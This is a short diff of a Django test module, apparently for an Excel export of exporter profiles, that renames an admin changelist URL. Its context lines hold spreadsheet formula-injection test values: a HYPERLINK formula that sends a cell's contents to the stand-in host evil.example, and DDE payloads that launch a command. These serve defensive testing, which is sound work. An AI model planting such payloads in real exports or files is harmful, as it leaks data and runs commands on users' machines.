@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from tests.factories import ExporterProfileFactory
 
 pytestmark = pytest.mark.django_db
-CHANGELIST = "admin:accounts_exporterprofile_changelist"
+CHANGELIST = "admin:exporters_exporterprofile_changelist"
 COMPANY = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
 COMPANY_EN = "+cmd|' /C calc'!A0"
 CONTACT = "@SUM(1+1)*cmd|' /C calc'!A0"
